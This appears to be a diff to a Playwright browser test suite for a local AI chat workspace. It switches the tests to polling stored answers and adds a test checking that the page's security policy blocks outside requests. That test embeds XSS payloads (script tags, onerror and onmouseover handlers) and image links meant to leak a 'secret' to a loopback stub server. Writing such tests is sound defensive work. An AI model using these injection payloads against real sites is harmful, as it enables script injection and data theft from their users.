@@ -4,10 +4,12 @@ Every request the page makes is recorded: anything beyond loopback fails the tes
 
 from __future__ import annotations
 
+import re
 import shutil
 import time
 from urllib.parse import urlparse
 
+import httpx
 import pytest
 
 CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
@@ -15,6 +17,9 @@ FLAGS = [
     "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--disable-background-networking",
     "--disable-component-update", "--disable-sync", "--no-first-run", "--disable-quic",
 ]
+
+LIMIT_S = 120  # only turns a stuck page or turn into a failure; nothing waits for it to expire
+
 
 @pytest.fixture
 def page(running_app):
@@ -74,22 +79,19 @@ def test_profile_chat_stream_switch_and_reload(page):
     # Mid-answer: open a new chat, then come back to the first one.
     page.get_by_role("button", name="＋ New chat").click()
     page.wait_for_function("() => !document.querySelector('#conversation').innerText.includes('bank account')")
-    page.wait_for_timeout(1_000)  # a follower of the old chat that was not cancelled would write here now
+    first_title = "Write a Python class for a bank account"
+    stored = stored_answer(page.url, first_title)  # the turn has ended and its follower has had its say
     assert "bank account" not in page.locator("#conversation").inner_text()
     chat_labels = page.locator("#chat-list label")
-    first_title = "Write a Python class for a bank account"
     page.locator("#chat-list label", has_text=first_title).click()
-    page.wait_for_function(
-        "() => !document.querySelector('#conversation').innerText.endsWith('…')", timeout=120_000)
+    wait_for_answer(page, stored)
     assert chat_labels.count() >= 2
-    answer_before_reload = wait_for_stable_answer(page)
-    assert answer_before_reload.strip()
 
     page.reload()
     page.wait_for_selector("#message-box textarea")
     page.wait_for_function(
         "t => document.querySelector('#conversation').innerText.includes(t)", arg=first_title[:30])
-    assert wait_for_stable_answer(page) == answer_before_reload
+    wait_for_answer(page, stored)
     assert page.get_by_role("combobox", name="Profile").first.input_value() == "Browser profile"
 
     # Search finds the message and opens its chat at it, from the other (empty) chat.
@@ -103,15 +105,114 @@ def test_profile_chat_stream_switch_and_reload(page):
     assert page.locator("#chat-list input:checked").count() == 1
 
 
-def wait_for_stable_answer(page, quiet_ms: int = 2_500, timeout_s: float = 120) -> str:
-    """The last answer once it has stopped changing (the turn finished and was stored)."""
-    deadline = time.monotonic() + timeout_s
-    previous, stable_since = None, time.monotonic()
-    while time.monotonic() < deadline:
-        current = last_answer(page)
-        if current != previous:
-            previous, stable_since = current, time.monotonic()
-        elif current and (time.monotonic() - stable_since) * 1000 >= quiet_ms:
-            return current
+def stored_answer(page_url: str, title: str) -> str:
+    """The answer of the chat titled `title` once it is stored as ended (waits on the stored status)."""
+    with httpx.Client(base_url=page_url.rstrip("/") + "/api", timeout=30) as api:
+        chat_id = next(c["id"] for p in api.get("/profiles").json()
+                       for c in api.get(f"/profiles/{p['id']}/chats").json() if c["title"].startswith(title))
+        deadline = time.monotonic() + LIMIT_S
+        while True:
+            last = api.get(f"/chats/{chat_id}/messages").json()[-1]
+            if last["status"] != "streaming":
+                assert last["content"].strip()
+                return last["content"]
+            assert time.monotonic() < deadline, "the answer was never stored as ended"
+            time.sleep(0.2)
+
+
+def letters(text: str) -> str:
+    """Only the letters: Markdown's markup (a code fence's language too) and list numbers do not survive
+    rendering, the words do."""
+    return re.sub(r"[^A-Za-z]+", "", re.sub(r"```[\w+-]*", "", text))
+
+
+def wait_for_answer(page, stored: str) -> None:
+    """Until the page's last answer shows the stored one."""
+    deadline = time.monotonic() + LIMIT_S
+    while letters(stored) not in letters(last_answer(page)):
+        assert time.monotonic() < deadline, "the page never showed the stored answer"
         page.wait_for_timeout(200)
-    raise AssertionError("the answer never settled")
+
+
+@pytest.fixture
+def stub_counter():
+    """An HTTP server on another loopback port counting every request: 'somewhere else' for the page."""
+    import http.server
+    import threading
+
+    hits: list[str] = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            hits.append(self.path)
+            self.send_response(200)
+            self.send_header("Content-Type", "image/png")
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.end_headers()
+
+        def log_message(self, *args):
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_address[1]}", hits
+    server.shutdown()
+    server.server_close()
+
+
+def test_nothing_in_a_chat_makes_the_page_fetch_from_elsewhere(running_app, page, stub_counter):
+    import httpx
+
+    url, _ = running_app
+    elsewhere, hits = stub_counter
+    profile = httpx.get(url + "/api/profiles").json()[0]
+    content = (f"Leak ![x]({elsewhere}/md?d=secret) and <img src=\"{elsewhere}/html?d=secret\"> "
+               "<img src=x onerror=\"alert('xss')\"> <script>alert('xss')</script> end-of-answer")
+    export = {"kind": "local-ai-workspace.chat", "schema_version": 1,
+              "chat": {"title": "<b onmouseover=alert(1)>Img"},
+              "messages": [{"role": "user", "content": "show me", "created_at": 1.0, "updated_at": 1.0},
+                           {"role": "assistant", "content": content, "created_at": 2.0, "updated_at": 2.0}]}
+    imported = httpx.post(url + f"/api/profiles/{profile['id']}/import", json=export)
+    assert imported.status_code == 201
+    hostile = httpx.post(url + "/api/profiles", json={"name": "<img src=x onerror=alert('p')>Prof",
+                                                      "description": "<script>alert('d')</script>"})
+    assert hostile.status_code == 201
+    dialogs: list[str] = []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    violations: list[str] = []
+    page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
+    page.reload()
+    page.wait_for_selector("#message-box textarea")
+    page.locator("#chat-list label", has_text="Img").first.click()
+    page.wait_for_function("() => document.querySelector('#conversation').innerText.includes('end-of-answer')")
+    # Script can still try on its own: both ways out are closed by the policy too.
+    page.evaluate("""(u) => { const i = new Image(); i.src = u + '/script-img'; document.body.appendChild(i);
+                              return fetch(u + '/script-fetch').then(() => 'sent', () => 'blocked'); }""", elsewhere)
+    page.wait_for_function("() => document.readyState === 'complete'")
+    assert len(violations) >= 2, violations  # the page tried, and the policy stopped it
+    page.get_by_role("combobox", name="Profile").first.click()
+    page.get_by_role("option", name="<img src=x onerror=alert('p')>Prof").click()  # shown as text, not markup
+    page.wait_for_function("() => document.readyState === 'complete'")
+    assert hits == [] and dialogs == []
+    httpx.delete(url + f"/api/chats/{imported.json()['id']}")
+    httpx.delete(url + f"/api/profiles/{hostile.json()['id']}")
+
+
+def test_lan_login_page_then_logout_in_a_real_browser(lan_app):
+    """LAN mode: the login form works under the page's security policy, and Log out ends the session."""
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=CHROMIUM, headless=True, args=FLAGS)
+        page = browser.new_page()
+        page.set_default_timeout(60_000)
+        page.goto(lan_app.url + "/")
+        page.locator("input[type=password]").wait_for()
+        page.locator("input:not([type=password])").first.fill("workspace")
+        page.locator("input[type=password]").fill(lan_app.password)
+        page.get_by_role("button", name="Login").click()
+        page.wait_for_selector("#message-box textarea")
+        page.locator("#logout").click()
+        page.locator("input[type=password]").wait_for()
+        assert page.context.request.get(lan_app.url + "/config").status == 401
+        browser.close()
